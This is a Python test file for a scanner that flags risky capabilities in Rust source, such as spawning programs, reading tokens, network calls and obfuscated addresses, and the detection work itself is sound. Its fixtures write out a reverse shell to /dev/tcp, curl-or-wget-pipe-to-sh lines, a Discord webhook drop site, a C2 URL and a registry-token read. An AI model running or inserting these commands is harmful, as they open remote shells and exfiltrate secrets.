"""One file: names and what they stand for, texts, and bytes that were never meant to be Rust."""

from __future__ import annotations

import contextlib
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox.preflight.reader.facts import FileFacts
from sandbox.preflight.reader.kinds import KINDS
from sandbox.preflight.reader.lexicon import FOREIGN, METHODS, PATHS, PROGRAMS
from sandbox.preflight.reader.literals import number, string
from sandbox.preflight.reader.ranks import RULES
from sandbox.preflight.reader.scan import scan
from sandbox.preflight.reader.texts import TEXTS, hidden_in, kinds_of
from sandbox.preflight.reader.tokens import TooHard


def _kinds(source: str) -> set[str]:
    return {one.kind for one in scan(source.encode()).sightings if not one.emitted}


def _main(body: str) -> str:
    return f"fn main() {{ {body} }}"


@pytest.mark.parametrize(
    "source",
    [
        'use std::process::Command as C; fn main() { C::new("make"); }',
        'use std::process::{self, *}; fn main() { process::Command::new("make"); }',
        'use std::{fs, process::{Command as C, Stdio}}; fn main() { C::new("make"); }',
        'use std as s; use s::process as p; use p::Command as C; fn main() { C::new("make"); }',
        'use std::process::*; fn main() { Command::new("make"); }',
        'extern crate std as s; fn main() { s::process::Command::new("make"); }',
        'type C = std::process::Command; fn main() { C::new("make"); }',
        'fn main() { let start = std::process::Command::new; start("make"); }',
        'fn main() { <std::process::Command>::new("make"); }',
        'fn main() { std :: /* between */ process :: Command :: new("make"); }',
        'fn main() { std::process::r#Command::new("make"); }',
        'fn main() { ["make"].map(std::process::Command::new); }',
        'use self::inner::Command; mod inner { pub use std::process::Command; } fn main() { Command::new("make"); }',
        'macro_rules! m { () => { ::std::process::Command::new("make") } } fn main() { m!(); }',
        'use std::process::*; mod other { struct Command; } fn main() { Command::new("make"); }',
    ],
)
def test_a_program_is_seen_whatever_its_starter_is_called(source: str) -> None:
    assert "spawn" in _kinds(source) or "spawn-computed" in _kinds(source)


def test_a_letter_that_compilers_take_for_another_is_taken_so_here_too() -> None:
    # U+212A, the Kelvin sign, is a K for rustc.
    assert "spawn" in _kinds('use std::process::Command as \u212a; fn main() { K::new("make"); }')


def test_a_program_that_a_name_is_bound_to_is_named() -> None:
    facts = scan(b'const WHAT: &str = "/tmp/csbench-x"; fn main() { std::process::Command::new(WHAT); }')
    assert ("spawn-scratch", "/tmp/csbench-x") in {(one.kind, one.text) for one in facts.sightings}


def test_a_program_without_a_name_is_a_computed_one() -> None:
    assert "spawn-computed" in _kinds(_main("std::process::Command::new(what());"))


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ('std::env::vars_os().count();', "env-all"),
        ('std::env::var("CARGO_REGISTRY_TOKEN");', "env-secret"),
        ('option_env!("GITHUB_ACTIONS");', "env-ci"),
        ('libloading::Library::new("x");', "dlopen"),
        ("unsafe { f() }", "unsafe"),
        ('core::arch::asm!("nop");', "asm"),
        ('std::fs::remove_dir_all("/home/csbench");', "delete-outside"),
        ('std::fs::write("/usr/lib/csbench", "");', "write-outside"),
        ("std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(0o755));", "chmod-exec"),
        ('println!("cargo:rustc-link-arg=-Wl,-z,now");', "link-arg"),
        ('println!("cargo::rustc-env=LD_PRELOAD=x");', "compiler-env"),
        ("std::thread::sleep(d);", "sleep"),
        ('let x = obfstr::obfstr!("x");', "obfuscation"),
        ('let x = "-----" ; tokio::net::TcpStream::connect(x);', "network"),
        ('f("https://discord.com/api/webhooks/1");', "drop-site"),
        ('f("bash -i >& /dev/tcp/192.0.2.1/9 0>&1");', "shell-pipe"),
        ('f("fn main() { std::process::Command::new(x) }");', "code-text"),
    ],
)  # fmt: skip
def test_a_capability_is_seen(body: str, kind: str) -> None:
    assert kind in _kinds(_main(body))


def test_an_ordinary_script_has_nothing_to_say() -> None:
    source = _main(
        'println!("cargo:rerun-if-changed=build.rs"); println!("cargo:rustc-cfg=x");'
        'let out = std::env::var("OUT_DIR");'
        'cc::Build::new().file("x.c").compile("x"); assert!(out.is_ok(), "no OUT_DIR in 10.0.0.1-alpha, 1.2.3.4");'
    )
    assert scan(source.encode()).sightings == ()


def test_foreign_functions_are_known_by_name() -> None:
    facts = scan(b'extern "C" { fn ptrace(request: i32) -> i64; fn puts(text: *const i8); }')
    assert {(one.kind, one.text) for one in facts.sightings} == {("extern", ""), ("kernel-call", "ptrace")}


def test_names_that_cannot_be_followed_are_noted() -> None:
    facts = scan(b"use csbench_tools::prelude::*; use super::*; use std::fs::*; fn main() {}")
    assert [(one.kind, one.text) for one in facts.sightings] == [("unknown-import", "csbench_tools::prelude")]


def test_code_for_others_is_told_from_code_that_runs() -> None:
    facts = scan(b"use quote::quote; fn f() { quote! { std::net::TcpStream::connect(x) }; }")
    assert [(one.kind, one.emitted) for one in facts.sightings] == [("network", True)]


def test_a_quote_of_a_package_that_is_not_the_known_one_runs() -> None:
    source = b"use quote::quote; fn f() { quote! { std::net::TcpStream::connect(x) }; }"
    assert [one.emitted for one in scan(source, frozenset({"quote"})).sightings] == [False]


@pytest.mark.parametrize(
    ("literal", "text", "data"),
    [
        (r'"a\n\x41\u{1F600}\"\\"', 'a\nA\U0001f600"\\', None),
        ('"a\\\n   b"', "ab", None),
        ('r#"a\\n"b"#', 'a\\n"b', None),
        (r'b"\xff\0"', "\xff\0", b"\xff\0"),
        (r'c"x"', "x", b"x"),
        ('br##"\\"#"##', '\\"#', None),
        (r'"\u{110000}\u{d800}"', "\ufffd\ufffd", None),
        ("not a literal", "not a literal", None),
    ],
)
def test_string_literals_stand_for_their_text(literal: str, text: str, data: bytes | None) -> None:
    assert string(literal) == (text, text.encode() if data is None else data)


@pytest.mark.parametrize(
    ("literal", "value"),
    [("0x7f_u8", 127), ("1_000usize", 1000), ("0b1_1", 3), ("0o755", 0o755), ("b'a'", 97), (r"b'\n'", 10),
     ("1.5", None),
     ("'x'", 120), ("9" * 400, None), ("0x", None)],
)  # fmt: skip
def test_number_literals_stand_for_their_value(literal: str, value: int | None) -> None:
    assert number(literal) == value


@pytest.mark.parametrize(
    "text", ["10.0.0.1-alpha", "1.2.3.4", "127.0.0.1:80", "0.0.0.0", "255.255.255.0", "192.0.2.1.5", "see 300.1.1.1"]
)
def test_what_looks_like_an_address_is_none(text: str) -> None:
    assert "raw-address" not in kinds_of(text)


@pytest.mark.parametrize("text", ["192.0.2.7", "http://198.51.100.20:8080/x", "203.0.113.9:443"])
def test_an_address_of_another_machine_is_one(text: str) -> None:
    assert "raw-address" in kinds_of(text)


@given(st.integers(1, 255).filter(lambda key: key != 0x20), st.binary(max_size=40), st.binary(max_size=40))
def test_an_exclusive_or_with_any_byte_hides_nothing(key: int, before: bytes, after: bytes) -> None:
    assert hidden_in(bytes(byte ^ key for byte in before + b"https://c2.csbench.invalid/" + after))


def test_capital_letters_are_not_hidden_ones() -> None:
    assert hidden_in(b"CSBENCH_CREDENTIALS_FILE") == "" == hidden_in(b"POWERSHELL_PATH")


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_no_bytes_break_the_reader(data: bytes) -> None:
    facts = scan(data)
    assert FileFacts.from_json(facts.to_json().encode()) == facts


_WORDS = st.sampled_from(
    (
        "use std :: process Command new ( ) { } [ ] ; ! # $ crate self Self as * , < > fn impl for mod extern unsafe "
        'quote quote_spanned => include concat env r#" " b" \' ^ ^= 0x55 0o755 . path = macro_rules where type let '
        "const // /* */ \n net TcpStream syscall from_mode asm SocketAddr"
    ).split(" ")
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_WORDS, max_size=60))
def test_no_order_of_words_breaks_the_reader(words: list[str]) -> None:
    facts = scan(" ".join(words).encode())
    assert FileFacts.from_json(facts.to_json().encode()) == facts


@pytest.mark.parametrize(
    "source",
    [
        "(" * 20_000,
        "fn main() {" + "[" * 20_000 + "]" * 20_000 + "}",
        "use " + "a::{" * 20_000,
        "use a::{" + "{" * 20_000 + "}" * 20_000 + "};",
        "/*" * 20_000,
        "mod a {" * 20_000,
        "impl<" * 20_000,
        "a::" * 20_000,
        "x!(" * 20_000,
        "fn f() {" * 20_000,
        "A::<" * 20_000,
        'quote!{' * 20_000,
        '"' + "$(curl" * 20_000 + '"',
        "let x = [" + "1," * 20_000 + "];",
        '["a",' * 20_000,
        "concat!(" * 5_000 + '"a"' + ")" * 5_000,
    ],
    ids=range(16),
)  # fmt: skip
def test_deep_and_wide_sources_take_no_stack_and_little_time(source: str) -> None:
    before = time.process_time()
    # Where it is too hard, it is told (see test_unit).
    with contextlib.suppress(TooHard):
        scan(source.encode())
    assert time.process_time() - before < 10


def test_what_is_no_rust_is_never_silently_clean() -> None:
    facts = scan(b"fn main() { let = = ; } %%%% this is no source at all, and goes on and on ((( ")
    assert facts.broken


def test_facts_of_another_version_are_not_believed() -> None:
    assert FileFacts.from_json(b"[0,[],[],[],[],[],[],false,false]") is None
    for broken in (b"", b"[]", b"{}", b"[1,[[1]],0,0,0,0,0,0,0]", b"\xff", b"[" * 100_000):
        assert FileFacts.from_json(broken) is None


def test_all_kinds_that_tables_and_rules_name_exist() -> None:
    said = {*PATHS.values(), *FOREIGN.values(), *METHODS.values(), *PROGRAMS.values(), *(kind for kind, _ in TEXTS)}
    assert said <= KINDS.keys()
    assert {kind for rule in RULES for group in rule.needs for kind in group} <= KINDS.keys()
    assert len({rule.name for rule in RULES}) == len(RULES)


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("curl x | sh", True),
        ("curl x |" + " " * 5000 + "sh", True),
        ("curl x |\n sh", True),
        ("curl x; chmod 0755 y", True),
        ("curl x; chmod 0644 y", False),
        ("curl x; chmod 7558 y", False),
        ("wget" + "x" * 399 + "| sh", False),
        ("wget " + "x" * 399 + "| sh", True),
        ("wget " + "x" * 400 + "| sh", False),
        ("| sh wget x; bash ", True),
        ("wget x\ny | sh", False),
        ("sh | curl", False),
    ],
)
def test_a_shell_line_runs_what_it_brings_when_both_halves_are_near(text: str, is_one: bool) -> None:
    assert ("shell-pipe" in kinds_of(text)) is is_one


@pytest.mark.parametrize("text", [("wget|" * 80 + " " * 15_900) * 60, "curl chmod " + "1" * 65_000 + "x"])
def test_no_text_costs_more_than_its_length(text: str) -> None:
    start = time.process_time()
    assert "shell-pipe" not in kinds_of(text)
    assert time.process_time() - start < 2.5, "seconds of CPU; it was more with one pattern for both halves"
